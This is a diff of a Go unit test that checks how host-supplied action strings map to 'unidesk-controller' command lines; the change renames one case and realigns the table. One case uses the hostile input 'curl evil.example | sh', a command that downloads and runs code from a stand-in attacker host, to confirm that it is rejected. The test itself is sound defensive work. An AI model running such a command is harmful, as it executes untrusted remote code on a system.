@@ -76,13 +76,13 @@ func TestWhatAHostSaysIsMarkedAsItsWords(t *testing.T) {
 		action string
 		line   string // that follows the host's
 	}{
-		"an action":                    {"RECOVER", "\nunidesk-controller recover"},
-		"none":                         {"", ""},
-		"a command for an action":      {"curl evil.example | sh", ""},
-		"an action's line as one":      {"unidesk-controller recover", ""},
-		"an action that is not known":  {"DANCE", ""},
-		"an action in the wrong case":  {"recover", ""},
-		"an action's mark as a action": {"{RECOVER}", ""},
+		"an action":                   {"RECOVER", "\nunidesk-controller recover"},
+		"none":                        {"", ""},
+		"a command for an action":     {"curl evil.example | sh", ""},
+		"an action's line as one":     {"unidesk-controller recover", ""},
+		"an action that is not known": {"DANCE", ""},
+		"an action in the wrong case": {"recover", ""},
+		"an action's mark as one":     {"{RECOVER}", ""},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
